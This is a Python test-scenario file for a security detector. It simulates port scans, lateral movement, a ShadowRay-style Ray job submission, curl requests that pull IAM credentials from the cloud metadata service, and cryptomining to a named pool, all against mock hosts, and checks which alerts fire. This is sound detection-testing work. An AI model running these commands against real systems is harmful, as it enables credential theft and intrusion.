"""From one machine to the next: scans, new ways inside the network, the cloud's metadata."""

from __future__ import annotations

import json
import socket

from proving.hosts import Asked, Reply
from proving.scenario import Must, attack
from proving.world import Actor, World

QUIET = ("beaconing", "data-exfiltration", "cryptomining")


def service(world: World) -> Actor:
    """A web application, which talks to its database."""
    world.host("10.77.1.40", "db.internal").listen(5432, talk)
    program = world.program("/srv/shop/api.py", "service.py")
    actor = world.script(program, "8080", unit="shop.service")
    world.listening(actor, 8080)
    path = world.program("/srv/shop/worker.py", "connect.py")
    world.script(path, "0.3", "db.internal:5432", "db.internal:5432", unit="shop.service").wait()
    return actor


def talk(connection: socket.socket) -> None:
    """Says a little for whatever comes."""
    while connection.recv(4096):
        connection.sendall(b"+OK\r\n")


@attack(
    "scan-ports",
    "one internal host is tried on 60 ports, 5 a second",
    must=(Must("port-scan", "netprobe", "10.77.20.5", within=5.5),),
    may=("lateral-movement",),
    must_not=QUIET,
)
def scan_ports(world: World) -> None:
    """Twenty targets are tried four seconds after the program has begun; half a second before that and one after for the tick."""
    world.host("10.77.20.5").listen(22, talk)
    path = world.program("/srv/app/netprobe.py", "connect.py")
    targets = [f"10.77.20.5:{port}" for port in (*range(20, 76), 3306, 5432, 6379, 8265)]
    world.mark()
    world.script(path, "0.2", *targets).wait()


@attack(
    "scan-hosts",
    "port 6379 is tried on 60 internal hosts, 5 a second",
    must=(Must("port-scan", "netprobe", "", within=5.5),),
    may=("lateral-movement",),
    must_not=QUIET,
)
def scan_hosts(world: World) -> None:
    world.host("10.77.21.17").listen(6379, talk)
    path = world.program("/srv/app/netprobe.py", "connect.py")
    world.mark()
    world.script(path, "0.2", *(f"10.77.21.{n}:6379" for n in range(1, 61))).wait()


@attack(
    "lateral-services",
    "a web application's shell goes to Redis, SSH, the Kubernetes API and SMB of hosts it never talked to",
    must=(Must("lateral-movement", "shop.service"),),
    may=("port-scan", "unexpected-process", "baseline-deviation", "credential-access"),
    must_not=QUIET,
)
def lateral_services(world: World) -> None:
    host = service(world)
    for address, port in (("10.77.30.4", 6379), ("10.77.30.5", 22), ("10.77.30.6", 6443), ("10.77.30.7", 445)):
        world.host(address).listen(port, talk)
    path = world.program("/tmp/.x/go.py", "connect.py")
    world.mark()
    targets = "10.77.30.4:6379 10.77.30.5:22 10.77.30.6:6443 10.77.30.7:445"
    world.run("sh", "-c", f"{world.python} {path} 0.5 {targets}; true", unit="shop.service")
    host.stop()


@attack(
    "lateral-ray",
    "a notebook's helper submits work to Ray and opens Jupyter on hosts beside it",
    imitates="ShadowRay (CVE-2023-48022), the way on",
    must=(Must("lateral-movement", "jupyter.service"),),
    may=("port-scan", "unexpected-process", "baseline-deviation"),
    must_not=QUIET,
)
def lateral_ray(world: World) -> None:
    ray = world.host("10.77.31.8")
    ray.http(8265, lambda asked: Reply({"submission_id": "raysubmit_1"}))
    jupyter = world.host("10.77.31.9")
    jupyter.http(8888, lambda asked: Reply({"version": "2.14.0"}))
    cells = [
        ["curl", "-sS", "-d", '{"entrypoint": "id"}', "http://10.77.31.8:8265/api/jobs/"],
        ["curl", "-sS", "http://10.77.31.9:8888/api"],
        ["curl", "-sS", "-X", "POST", "http://10.77.31.9:8888/api/kernels"],
    ]
    world.file("/home/app/cells.json", json.dumps(cells))
    kernel = world.program("/home/app/venv/ipykernel_launcher.py", "cells.py")
    world.mark()
    world.run(world.python, kernel, "/home/app/cells.json", unit="jupyter.service", cwd="/home/app")
    assert len(ray.requests) + len(jupyter.requests) == 3


def _metadata(asked: Asked) -> Reply:
    if asked.path.endswith("security-credentials/"):
        return Reply("shop-role")
    return Reply({"AccessKeyId": "ASIAEXAMPLEEXAMPLE00", "SecretAccessKey": "none", "Token": "none"})


@attack(
    "metadata-curl",
    "a web application that never did asks the cloud's metadata service for credentials, by curl",
    must=(Must("metadata-service-access", "shop.service", within=1.0),),
    may=("unexpected-process", "credential-access", "lateral-movement", "baseline-deviation"),
    must_not=QUIET,
)
def metadata_curl(world: World) -> None:
    cloud = world.host("169.254.169.254")
    cloud.http(80, _metadata)
    host = service(world)
    base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    world.mark()
    world.run("sh", "-c", f"curl -s {base} && curl -s {base}shop-role; true", unit="shop.service")
    assert len(cloud.requests) == 2
    host.stop()


@attack(
    "mining-stratum",
    "a process keeps a connection to a mining pool and hands in shares",
    imitates="ultralytics 8.3.41 (December 2024): XMRig",
    must=(Must("cryptomining", "kworker_helper"),),
    may=("beaconing",),
    must_not=("data-exfiltration", "port-scan", "lateral-movement"),
)
def mining(world: World) -> None:
    world.host("203.0.113.70", "pool.minexmr.com").listen(3333, stratum)
    path = world.program("/tmp/.cache/kworker_helper", "miner.py")
    world.mark()
    world.script(path, "pool.minexmr.com", "3333", "8").wait()


@attack(
    "mining-unnamed-pool",
    "the same to a pool without a name, on port 443",
    must=(Must("cryptomining", "build_cache", "203.0.113.71"),),
    may=("beaconing",),
    must_not=("data-exfiltration", "port-scan", "lateral-movement"),
)
def mining_unnamed(world: World) -> None:
    world.host("203.0.113.71").listen(443, stratum)
    path = world.program("/srv/app/build_cache.py", "miner.py")
    world.mark()
    world.script(path, "203.0.113.71", "443", "8").wait()


def sshd(connection: socket.socket) -> None:
    """The beginning of the protocol, where the connection ends."""
    connection.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
    heard = 0
    while heard < 600:  # its name and the ways it knows to agree on keys
        heard += len(connection.recv(4096)) or 600


def stratum(connection: socket.socket) -> None:
    """A pool that has one job for everybody (Stratum, as XMRig speaks it)."""
    rest = b""
    job = b'{"jsonrpc":"2.0","method":"job","params":{"blob":"%s","job_id":"%d","target":"b88d0600","height":1}}\n'
    for number in range(1000):
        data = connection.recv(4096)
        if not data:
            return
        *lines, rest = (rest + data).split(b"\n")
        for line in lines:
            result = b'{"id":"s","job":{"blob":"%s","job_id":"0","target":"b88d0600"},"status":"OK"}' % (b"0" * 152)
            status = result if b'"login"' in line else b'{"status":"OK"}'
            connection.sendall(b'{"id":1,"jsonrpc":"2.0","error":null,"result":%s}\n' % status)
        connection.sendall(job % (b"1" * 152, number))
